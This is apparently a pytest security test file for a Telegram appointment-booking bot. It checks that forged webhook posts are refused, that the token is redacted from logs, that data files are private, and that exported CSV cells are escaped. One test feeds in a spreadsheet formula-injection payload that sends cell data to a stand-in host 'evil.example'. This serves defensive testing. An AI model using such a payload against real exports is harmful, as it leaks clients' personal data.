"""Attacks from outside: forged webhook posts, formulas planted in the export, file modes."""

from __future__ import annotations

import asyncio
import csv
import logging
import re
import sqlite3
import stat
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from telegram.error import InvalidToken
from telegram.ext import Application

from bot.config.content import Content
from bot.logs import setup_logging
from bot.services.export import export_requests
from bot.store.database import Storage
from bot.telegram.app import build_application, start_application, stop_application
from tests.bot.command_line import cli_process
from tests.bot.conftest import STAFF_CHAT, STAFF_USER, Running, make_settings, settle
from tests.bot.driver import Person, book
from tests.bot.fake_bot_api import FakeBotApi
from tests.bot.test_crash import BotProcess, at_rest
from tests.bot.test_operations_e2e import free_port

HEADER = "X-Telegram-Bot-Api-Secret-Token"


@dataclass
class WebhookBot:
    """The bot in webhook mode, started with no WEBHOOK_SECRET set."""

    storage: Storage
    local_url: str
    errors: list[BaseException]
    app: Application[Any, Any, Any, Any, Any, Any]


@pytest.fixture
async def webhook_without_secret(
    api: FakeBotApi, content: Content, tmp_path: Path
) -> AsyncIterator[WebhookBot]:
    port = free_port()
    settings = make_settings(api, tmp_path / "bot.sqlite3", webhook_port=port)
    assert settings.webhook_secret is None
    storage = await Storage.open(settings.db_path)
    errors: list[BaseException] = []

    async def collect(update: object, context: object) -> None:
        errors.append(getattr(context, "error", None) or RuntimeError("unknown"))

    app = build_application(settings, content, storage, error_handler=collect)
    await start_application(app, webhook_url="https://clinic.example/tg/hook", settings=settings)
    local = f"http://127.0.0.1:{port}/tg/hook"
    api.deliver_to(local)  # Telegram posts each update with the secret setWebhook registered
    try:
        yield WebhookBot(storage, local, errors, app)
    finally:
        await stop_application(app)
        await storage.close()
    assert errors == []


async def test_webhook_without_a_set_secret_registers_a_strong_one_and_refuses_forgeries(
    api: FakeBotApi, webhook_without_secret: WebhookBot
) -> None:
    bot = webhook_without_secret
    secret = api.webhook_secret
    assert secret is not None, "setWebhook went out without a secret_token"
    assert re.fullmatch(r"[A-Za-z0-9_-]{40,256}", secret), "Telegram accepts it; hard to guess"
    assert api.webhook_url == "https://clinic.example/tg/hook"
    ann = Person(api, 42, "Ann")
    await book(ann)
    note = await api.wait_for_text(STAFF_CHAT, "Appointment request #1")
    await settle(api, bot.app)
    told_ann, note_version = len(api.messages(42)), note.version

    # An attacker who found the URL posts "staff taps Decline" and "/forget" for Ann.
    decline = {"update_id": 10_001, **api.press_body(STAFF_USER, note.data_of("✖️ Decline"),
               note, first_name="Sam")}  # fmt: skip
    forget = {"update_id": 10_002, **api.text_body(42, "/forget")}
    async with aiohttp.ClientSession() as http:
        for forged in (decline, forget):
            for headers in ({}, {HEADER: "guess"}, {HEADER: secret[:-1]}):
                async with http.post(bot.local_url, json=forged, headers=headers) as response:
                    assert response.status == 403
    await settle(api, bot.app)
    assert len(api.messages(42)) == told_ann, "the client was sent nothing"
    assert note.version == note_version, "the staff message was not touched"
    rows = await bot.storage.fetch_all("SELECT status FROM requests")
    assert [r[0] for r in rows] == ["open"], "the request was not declined"
    handled = await bot.storage.fetch_all("SELECT update_id FROM processed_updates")
    assert not {10_001, 10_002} & {r[0] for r in handled}

    # The same tap with the registered secret, as Telegram sends it, is handled.
    async with (
        aiohttp.ClientSession() as http,
        http.post(bot.local_url, json=decline, headers={HEADER: secret}) as response,
    ):
        assert response.status == 200
    await api.wait_for_text(42, "we can't offer this appointment")
    rows = await bot.storage.fetch_all("SELECT status FROM requests")
    assert [r[0] for r in rows] == ["declined"]
    assert set(api.webhook_statuses) == {200}, "every genuine delivery was accepted"


async def test_the_token_is_taken_out_of_logged_errors_tracebacks_and_stacks(
    api: FakeBotApi, content: Content, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    settings = make_settings(api, tmp_path / "bot.sqlite3")
    assert settings.token is not None
    root = logging.getLogger()
    before = (root.handlers[:], root.level)
    setup_logging(settings)  # the handler writes to this test's captured stderr
    api.refuse_token()
    storage = await Storage.open(settings.db_path)
    app = build_application(settings, content, storage)
    log = logging.getLogger("bot.test")
    try:
        with pytest.raises(InvalidToken) as refused:
            await app.bot.initialize()
        assert settings.token in str(refused.value), "python-telegram-bot puts it in the text"
        log.error("event=start_failed", exc_info=refused.value)
        log.error("event=odd url=%s", f"{settings.base_url}{settings.token}/getMe", stack_info=True)
    finally:
        await stop_application(app)
        await storage.close()
        root.handlers[:], root.level = before
    err = capsys.readouterr().err
    assert "Traceback" in err and "was rejected by the server" in err and "stack" in err.lower()
    assert settings.token not in err and settings.token.partition(":")[2] not in err
    assert err.count("<token>") >= 2


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def with_side_files(db: Path) -> list[Path]:
    return [db, db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")]


@pytest.mark.slow(seconds=2.4)
async def test_a_real_run_keeps_the_database_its_wal_and_shm_and_the_export_private(
    api: FakeBotApi, tmp_path: Path
) -> None:
    db = tmp_path / "bot.sqlite3"
    bot = BotProcess(api, db)
    await bot.start()
    try:
        ann = Person(api, 42, "Ann")
        await ann.say("hello", "", timeout=20)  # up and answering
        await book(ann, {1: ["Blood thinners"]})
        await api.wait_for_text(STAFF_CHAT, "Appointment request #1")
        await at_rest(api, db)  # the outbox has had its round, every file made
        files = with_side_files(db)
        assert all(f.exists() for f in files)
        assert {f.name: mode(f) for f in files} == {f.name: 0o600 for f in files}
    finally:
        code, _ = await bot.terminate()
    assert code == 0
    out = tmp_path / "requests.csv"
    result = await asyncio.to_thread(cli_process, "export", str(out), env={"CLINIC_DB": str(db)})
    assert result.returncode == 0, result.stderr
    assert "Blood thinners" in out.read_text(encoding="utf-8")
    assert mode(out) == 0o600


async def test_files_an_older_version_made_world_readable_are_made_private_at_open(
    tmp_path: Path, content: Content
) -> None:
    db = tmp_path / "old.sqlite3"
    older = sqlite3.connect(db)  # kept open, so its -wal and -shm stay on disk
    older.execute("PRAGMA journal_mode=WAL")
    older.execute("CREATE TABLE t (x)")
    for file in with_side_files(db):
        file.chmod(0o644)
    storage = await Storage.open(db)
    try:
        assert [mode(f) for f in with_side_files(db)] == [0o600] * 3
    finally:
        await storage.close()
        older.close()
    fresh = tmp_path / "new.sqlite3"
    await (await Storage.open(fresh)).close()
    assert mode(fresh) == 0o600
    out = tmp_path / "requests.csv"
    out.write_text("an older export\n")
    out.chmod(0o644)
    await export_requests(db, out, content.questionnaire)
    assert mode(out) == 0o600


async def test_formulas_typed_by_a_client_are_exported_as_text(
    running: Running, tmp_path: Path
) -> None:
    ann = Person(running.api, 42, "Ann")
    evil = '=HYPERLINK("http://evil.example/?d="&H2,"Click")'
    await ann.say("/book", "Do you agree?")
    await ann.tap("✅ I agree", "Health check (1 of 4)")
    for following in ("(2 of 4)", "(3 of 4)", "(4 of 4)", "What name"):
        await ann.tap("None of these", following)
    await ann.say("Ann", "best phone number")
    await ann.say("07700 900123", "Which session would you like?")
    await ann.tap("60-minute massage · £65", "When would suit you?")
    await ann.say(evil, "What would you like us to work on?")
    await ann.say("-1+1 shoulders", "Here's your request")
    await ann.tap("✅ Send request", "is with our team")
    out = tmp_path / "requests.csv"
    assert await export_requests(running.settings.db_path, out, running.content.questionnaire)
    with out.open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    assert row["preferred_times"] == "'" + evil, "a spreadsheet shows it, does not run it"
    assert row["focus"].startswith("'-1+1 shoulders")
    assert row["name"] == "Ann" and row["phone"] == "+447700900123", "other cells are unchanged"
    for name, cell in row.items():
        if name != "phone":  # "+447700900123": digits only, a spreadsheet shows a number
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
